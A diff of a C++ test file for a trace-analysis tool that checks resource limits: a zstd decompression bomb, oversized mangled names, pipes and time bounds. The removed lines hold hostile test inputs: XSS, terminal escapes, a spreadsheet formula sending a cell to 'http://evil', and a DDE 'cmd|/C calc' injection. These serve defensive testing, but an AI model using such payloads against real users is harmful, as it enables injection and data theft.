@@ -1,185 +1,204 @@
-// Names and facts that want more than to be read: no verb lets them.
+// Traces that somebody made to harm who looks at them: each verb says what is wrong, or reads them,
+// with little memory. What takes too long is found by the test's own time limit.
+#include <sys/stat.h>
+#include <zstd.h>
+
 #include "tests/launcher/traces.h"
 
 namespace {
 
-// One of each kind: terminal, spreadsheet, Markdown, HTML, dot.
-const char *const kNames[] = {
-    "</script><img src=x onerror=alert(1)>\"'<!--<script>",
-    "\x1b]0;pwned\x07\x1b[2J\x9b"
-    "31m\xc2\x9b"
-    "31mred\r\nINJECT",
-    "\xe2\x80\xae\xe2\x81\xa6"
-    "evil\xe2\x80\xa8next",
-    "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "[click](javascript:alert(1)) ![x](http://evil/px.png) `rm -rf` <b>x</b> | \\| x",
-    "- www.evil.com me@evil.com\\N\\",
-};
+constexpr long kPeakKib = 200 << 10;
 
-std::string Hostile() {
-    return Make("hostile.cst", [](Synth *s) {
-        std::string facts;
-        for (const char *name : {kNames[0], kNames[3], kNames[5], "\xc2\x9b", "\xe2\x80\xae"}) {
-            std::string text;
-            for (const char *at = name; *at; at++)
-                text += std::string(*at == '"' || *at == '\\' ? "\\" : "") + *at;
-            facts += (facts.empty() ? "\"" : ",\"") + text + "\\ud800\\u001b\"";
+// What a verb that reads a trace is called with before its path.
+std::vector<Strings> Readers() {
+    std::string out = Folder() + "/hostile-out";
+    return {{"info"},
+            {"info", "--json"},
+            {"dump"},
+            {"report", "kernels", "--names", "demangled"},
+            {"report", "segments"},
+            {"report", "cache"},
+            {"report", "breaks"},
+            {"report", "coverage"},
+            {"report", "--force", "--html", out},
+            {"export", "--force", "--perfetto", out},
+            {"export", "--force", "--jsonl", out},
+            {"export", "--force", "--sqlite", out},
+            {"whatif"}};
+}
+
+Result On(Strings verb, const std::string &path) {
+    verb.push_back(path);
+    Result r = Cusplice(verb);
+    EXPECT_TRUE(WIFEXITED(r.status)) << verb[0];
+    EXPECT_TRUE(Sanitized() || r.peak_kib < kPeakKib) << verb[0] << " " << r.peak_kib;
+    return r;
+}
+
+// Doubles with each of its parts.
+std::string Name(int parts) {
+    static const char digits[] = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ";
+    std::string name = "_Z1f1AIiiE";
+    for (int i = 0; i < parts; i++)
+        name += std::string("S_IS") + digits[i] + "_S" + digits[i] + "_E";
+    return name;
+}
+
+TEST(Hostile, ANameThatStandsForGigabytesStaysMangled) {
+    std::string path = Make("name.cst", [](Synth *s) {
+        for (int parts = 20; parts < 30; parts++)
+            s->Op(1, s->Kernel(Name(parts)));
+        s->Op(1, s->Kernel("_Z4kindIfEvPT_S1_S1_S1_S1_S1_S1_S1_S1_S1_"));
+    });
+    for (const Strings &verb : Readers())
+        EXPECT_EQ(On(verb, path).Exit(), 0) << verb[0] << verb[1 % verb.size()];
+    Result r = On({"report", "kernels", "--names", "demangled", "--format", "csv"}, path);
+    EXPECT_TRUE(Has(r.out, Name(29))) << r.out;
+}
+
+TEST(Hostile, ManyKindsOfOneNameShareIt) {
+    std::string path = Make(
+        "kinds.cst",
+        [](Synth *s) {
+            std::string name = "_Z60000" + std::string(60000, 'k') + "v";
+            for (int i = 0; i < 3000; i++)
+                s->Kernel(name, 0);
+            s->Op(1, 1);
+        },
+        true);
+    for (const Strings &verb : Readers())
+        EXPECT_EQ(On(verb, path).Exit(), 0) << verb[0] << verb[1 % verb.size()];
+}
+
+TEST(Hostile, ManyStreamsOfCuptiCostWhatTheyAre) {
+    std::string path = Make("lanes.cst", [](Synth *s) {
+        uint32_t kernel = s->Kernel("k");
+        s->Op(1, kernel);
+        for (uint32_t i = 0; i < 100000; i++)
+            s->GpuStream(1 + i % 2, i);
+        s->Gpu(7, CST_GPU_KERNEL, "k");
+    });
+    for (const Strings &verb : Readers())
+        EXPECT_EQ(On(verb, path).Exit(), 0) << verb[0];
+}
+
+TEST(Hostile, ManyFactsCostWhatTheyAre) {
+    std::string facts = "{";
+    for (int i = 2; i < 100000; i++)
+        facts += "\"trimmed_" + std::to_string(i) + "\":1,";
+    std::string path = Make("facts.cst", [&](Synth *s) {
+        s->Facts(facts + "\"trimmed\":1}");
+        s->Op(1, s->Kernel("k"));
+    });
+    EXPECT_EQ(On({"info"}, path).Exit(), 0);
+    std::string out = Folder() + "/facts.trim.cst";
+    unlink(out.c_str());
+    EXPECT_EQ(On({"trim", "--pack", "-o", out}, path).Exit(), 0);
+    EXPECT_TRUE(Has(On({"info", "--json"}, out).out, "\"trimmed_100000\":{"));
+}
+
+// Two blocks of records that nobody knows, 40 MiB each.
+std::string Bomb() {
+    return Make("bomb.cst", [](Synth *s) {
+        constexpr size_t kRecord = 65535 * 8;
+        std::string raw((40 << 20) / kRecord * kRecord, 0);
+        for (size_t at = 0; at < raw.size(); at += kRecord) {
+            cst_record head = {};
+            head.type = 200;
+            head.words = 65535;
+            memcpy(&raw[at], &head, sizeof head);
         }
-        s->Facts("{\"argv\":[" + facts + "],\"gpu\":\"\xc2\x9b\\ud800=1\"}");
-        for (int step = 0; step < 3; step++) {
-            for (const char *name : kNames) {
-                uint32_t kind = s->Kernel(name);
-                s->Thread(100, name);
-                s->Eager(1, kind, name, name);
-                s->Op(1, kind);
-            }
-            s->Flush(1, sizeof kNames / sizeof *kNames, kNames[1], kNames[5]);
-            s->Call(1, CST_CALL_BREAK, kNames[1]);
-            s->Sync(1);
-        }
+        std::string frame(ZSTD_compressBound(raw.size()), 0);
+        frame.resize(ZSTD_compress(&frame[0], frame.size(), raw.data(), raw.size(), 19));
+        for (int i = 0; i < 2; i++)
+            cst_out_block(&s->out, CST_BLOCK_RECORDS, CST_BLOCK_ZSTD, frame.data(), frame.size(),
+                          raw.size());
     });
 }
 
-// Newlines are the only control characters, and nothing reorders or is no UTF-8. Python's decoder
-// is the judge.
-void ExpectPlain(const std::string &text, const std::string &of) {
-    Result r = RunProgram({"/usr/bin/env", "-u", "LD_PRELOAD", "python3", "-c",
-                           "import sys,unicodedata\n"
-                           "t=sys.stdin.buffer.read().decode('utf-8')\n"
-                           "bad=[c for c in t if c!='\\n' and unicodedata.category(c) in "
-                           "('Cc','Cf','Zl','Zp','Cs')]\n"
-                           "print(bad) if bad else None"},
-                          {}, text);
-    EXPECT_EQ(r.Exit(), 0) << of << r.err << text;
-    EXPECT_EQ(r.out, "") << of << text;
-}
-
-TEST(Hostile, NoVerbPrintsControlCharacters) {
-    std::string trace = Hostile();
-    std::vector<Strings> all = {{"info", trace},
-                                {"info", "--json", trace},
-                                {"dump", trace},
-                                {"dump", "--dot", trace},
-                                {"dump", "--dot", "--names", "mangled", trace},
-                                {"whatif", trace},
-                                {"export", "--perfetto", "-", trace},
-                                {"export", "--jsonl", "-", trace}};
-    for (const char *format : {"table", "csv", "md", "json"}) {
-        for (const char *report : {"kernels", "segments", "cache", "breaks", "coverage"})
-            all.push_back({"report", report, "--format", format, trace});
-        for (const char *by : {"kernels", "steps"})
-            all.push_back({"diff", "--by", by, "--format", format, trace, golden});
-        all.push_back({"whatif", "--sweep", "--format", format, trace});
+TEST(Hostile, WhatUnpacksToTooMuchIsRefusedByNameOfTheOption) {
+    std::string path = Bomb();
+    std::vector<Strings> all = Readers();
+    all.push_back({"trim", "--pack"});
+    all.push_back({"replay"});
+    all.push_back({"bench"});
+    for (const Strings &verb : all) {
+        Result r = On(verb, path);
+        EXPECT_EQ(r.Exit(), 1) << verb[0];
+        EXPECT_TRUE(Has(r.err, path + ": its records unpack to more than 64 MiB") &&
+                    Has(r.err, "--max-memory MIB sets another bound"))
+            << verb[0] << r.err;
     }
-    for (const Strings &arguments : all) {
-        Result r = Cusplice(arguments);
-        std::string of = arguments[0] + " " + arguments[1] + " " + arguments.back();
-        EXPECT_EQ(r.Exit(), 0) << of << r.err;
-        EXPECT_FALSE(r.out.empty()) << of;
-        ExpectPlain(r.out, of);
-        ExpectPlain(r.err, of);
-    }
+    EXPECT_EQ(Cusplice({"info", "--max-memory", "400", path}).Exit(), 0);
+    EXPECT_EQ(Cusplice({"info", "--max-memory=0", path}).Exit(), 0);
+    EXPECT_EQ(Cusplice({"export", "--max-memory=0", "--jsonl", "-", path}).Exit(), 0);
 }
 
-TEST(Hostile, ColumnsStandBelowEachOther) {
-    std::string text = Says({"report", "kernels", "--fields", "name,calls", Hostile()});
-    // Every name is one line, whose number ends where the head does.
-    size_t rows = 0;
-    for (size_t at = text.find("\nname ") + 1; at < text.size(); rows++) {
-        size_t end = text.find('\n', at);
-        EXPECT_EQ(end - at, text.find('\n', text.find("\nname ") + 1) - text.find("\nname ") - 1);
-        at = end + 1;
-    }
-    EXPECT_EQ(rows, 1 + sizeof kNames / sizeof *kNames);
+TEST(Hostile, ABoundOnMemoryIsSaidWhereItIsMet) {
+    std::string path = Make("small.cst", [](Synth *s) {
+        for (int i = 0; i < 100000; i++)
+            s->Op(1, i ? 1 : s->Kernel("k"));
+    });
+    EXPECT_EQ(Cusplice({"info", path}).Exit(), 0);
+    if (Sanitized())
+        return;
+    std::string err = Fails(1, {"info", "--max-memory", "1", path});
+    EXPECT_TRUE(Has(err, "not enough memory") && Has(err, "it may use 1 MiB; --max-memory")) << err;
 }
 
-TEST(Hostile, NoCellOfCsvIsAFormula) {
-    Result r = RunProgram(
-        {"/usr/bin/env", "-u", "LD_PRELOAD", "python3", "-c",
-         "import csv,io,sys\n"
-         "for row in csv.reader(io.StringIO(sys.stdin.read(),newline=''),strict=True):\n"
-         "  assert len(row)==2, row\n"
-         "  assert row[0].lstrip(' \"')[:1] not in tuple('=+-@\\t\\r'), row\n"
-         "  print(row[0])"},
-        {}, Says({"report", "kernels", "--format", "csv", "--fields", "name,calls", Hostile()}));
-    EXPECT_EQ(r.Exit(), 0) << r.err;
-    EXPECT_TRUE(Has(r.out, "\n'=HYPERLINK(\"http://evil/?\"&A1,\"click\")\n")) << r.out;
-    EXPECT_TRUE(Has(r.out, "\n'@SUM(1+1)*cmd|' /C calc'!A0\n")) << r.out;
+TEST(Hostile, ABoundOnTimeLeavesNoHalfOfAFile) {
+    std::string path = Make(
+        "slow.cst",
+        [](Synth *s) {
+            std::string name = "_Z60000" + std::string(60000, 'k') + "v";
+            for (int i = 0; i < 400000; i++)
+                s->Kernel(name, 0);
+            s->Op(1, 1);
+        },
+        true);
+    std::string out = Folder() + "/slow.sqlite";
+    Result r = Cusplice({"export", "--max-seconds=1", "--sqlite", out, path});
+    EXPECT_EQ(r.Exit(), 1) << r.err;
+    EXPECT_EQ(r.err, "cusplice: stopped after 1 s of processor time; --max-seconds S sets another "
+                     "bound, 0 none\n");
+    r = RunProgram({"/bin/sh", "-c", "ls " + Folder() + " | grep slow.sqlite"});
+    EXPECT_EQ(r.out, "");
 }
 
-TEST(Hostile, MarkdownHasNoMarkup) {
-    std::string text =
-        Says({"report", "kernels", "--format", "md", "--fields", "name,calls", Hostile()});
-    for (const char *part : {"[x](", "http://", "www.", "evil@", " `rm", " <b>", "<img", "![x]"})
-        EXPECT_FALSE(Has(text, part)) << part << "\n" << text;
-    EXPECT_TRUE(Has(text, "\\[click\\](javascript:alert(1)) !\\[x\\](http`:`//evil/px.png)"));
-    EXPECT_TRUE(Has(text, "\\- www`.`evil.com me`@`evil.com\\\\N\\\\ |")) << text;
+TEST(Hostile, APipeOrADeviceIsNotWaitedFor) {
+    std::string pipe = Folder() + "/pipe";
+    ASSERT_EQ(mkfifo(pipe.c_str(), 0600), 0);
+    std::vector<Strings> all = Readers();
+    all.push_back({"trim", "--pack"});
+    all.push_back({"replay"});
+    all.push_back({"bench"});
+    all.push_back({"import"});
+    all.push_back({"diff", golden});
+    all.push_back({"whatif", golden, "--gpu-times"});
+    all.push_back({"whatif", golden, "--cost"});
+    for (const std::string &path : {pipe, std::string("/dev/zero")})
+        for (const Strings &verb : all) {
+            Result r = On(verb, path);
+            EXPECT_EQ(r.Exit(), 1) << verb[0];
+            EXPECT_TRUE(Has(r.err, "it is no regular file")) << verb[0] << r.err;
+        }
 }
 
-TEST(Hostile, JsonHasNoHalfCharacters) {
-    std::string trace = Hostile(), out = Folder() + "/hostile.json";
-    for (const Strings &arguments :
-         {Strings{"dump", trace}, Strings{"info", "--json", trace},
-          Strings{"export", "--jsonl", "-", trace}, Strings{"export", "--perfetto", "-", trace}}) {
-        Result r = RunProgram(
-            {"/usr/bin/env", "-u", "LD_PRELOAD", "python3", "-c",
-             "import json,sys\n"
-             "t=sys.stdin.buffer.read().decode('utf-8')\n"
-             "for l in [t] if t.count('\\n{')<2 or 'traceEvents' in t else t.splitlines():\n"
-             "  json.dumps(json.loads(l),ensure_ascii=False).encode('utf-8')"},
-            {}, Cusplice(arguments).out);
-        EXPECT_EQ(r.Exit(), 0) << arguments[0] << r.err;
-    }
-}
-
-TEST(Hostile, MessagesAreOneLine) {
-    std::string name = "/nowhere/\x1b[2J\n\xc2\x9b\xff\xe2\x80\xae.cst";
-    for (const Strings &arguments :
-         {Strings{"info", name}, Strings{"report", "kernels", name}, Strings{"whatif", name},
-          Strings{"export", "--jsonl", "-", name}, Strings{"import", name}, Strings{name},
-          Strings{"config", "--check", name}, Strings{"cache", name, "--list"},
-          Strings{"run", "--", name}, Strings{"replay", name}, Strings{"bench", name}}) {
-        Result r = Cusplice(arguments);
-        EXPECT_NE(r.Exit(), 0) << arguments[0];
-        EXPECT_TRUE(Has(r.err, "?[2J????")) << arguments[0] << r.err;
-        ExpectPlain(r.err, arguments[0]);
-    }
-}
-
-TEST(Hostile, ConfigurationsAreShownClean) {
-    std::string path = Folder() + "/\x1b[2Jhostile.conf";
-    WriteAll(path, "log_file = /tmp/\x1b]0;x\x07\nbad\x1b[2J = 1\n[rules]\n"
-                   "eager = a\x1b]2\xc2\x9b\xff*\n[step \x1b(x]\nmarker = b\x1b]3\n");
-    const Environment set = {{"CUSPLICE_CONFIG", path}};
-    for (const Strings &arguments :
-         {Strings{"config", "--list"}, Strings{"config", "--list", "--json"},
-          Strings{"config", "--check", path}, Strings{"config", "--check", path, "--json"},
-          Strings{"config", "--explain", "a\x1b]2\xc2\x9b\xffz"},
-          Strings{"config", "--explain", "a\x1b]2\xc2\x9b\xffz", "--json"},
-          Strings{"run", "--", "/bin/true"}}) {
-        Result r = Cusplice(arguments, set);
-        ExpectPlain(r.out + r.err, arguments[1]);
-        EXPECT_FALSE((r.out + r.err).empty() && arguments[0] == "config");
-    }
-    std::string list = Cusplice({"config", "--list"}, set).out;
-    for (const char *part : {"log_file = /tmp/?]0;x?       # ", "\neager = a?]2??*    # ",
-                             "\n[step ?(x]    # ", "\nmarker = b?]3\n"})
-        EXPECT_TRUE(Has(list, part)) << part << list;
-    std::string explained = Cusplice({"config", "--explain", "a\x1b]2\xc2\x9b\xffz"}, set).out;
-    EXPECT_TRUE(Has(explained, "full name  a?]2??z\n")) << explained;
-    EXPECT_TRUE(Has(explained, "rule       eager = a?]2??*    # ")) << explained;
-}
-
-TEST(Hostile, ImportKeepsTheNameOfItsFile) {
-    std::string database = Folder() + "/a\"b\x1b\xc3\xa9\xff.sqlite",
-                trace = Folder() + "/imported.cst";
-    unlink(database.c_str());
-    unlink(trace.c_str());
-    ASSERT_EQ(Cusplice({"export", "--sqlite", database, golden}).Exit(), 0);
-    ASSERT_EQ(Cusplice({"import", "-o", trace, database}).Exit(), 0);
-    std::string text = Says({"info", "--json", trace});
-    EXPECT_TRUE(Has(text, "/a\\\"b\\u001b\xc3\xa9\xef\xbf\xbd.sqlite\"")) << text;
+TEST(Hostile, BoundsAreNumbers) {
+    for (Strings verb : std::vector<Strings>{{"info"},
+                                             {"export"},
+                                             {"import"},
+                                             {"whatif"},
+                                             {"replay"},
+                                             {"bench"},
+                                             {"diff"},
+                                             {"dump"},
+                                             {"trim"}})
+        for (const char *option : {"--max-memory", "--max-seconds"}) {
+            Strings all = {verb[0], option, "many", "x"};
+            EXPECT_TRUE(Has(Fails(2, all), std::string(option) + " many: a number from 0 on"));
+            EXPECT_TRUE(Has(Cusplice({verb[0], "--help"}).out, option)) << verb[0];
+        }
 }
 
 } // namespace
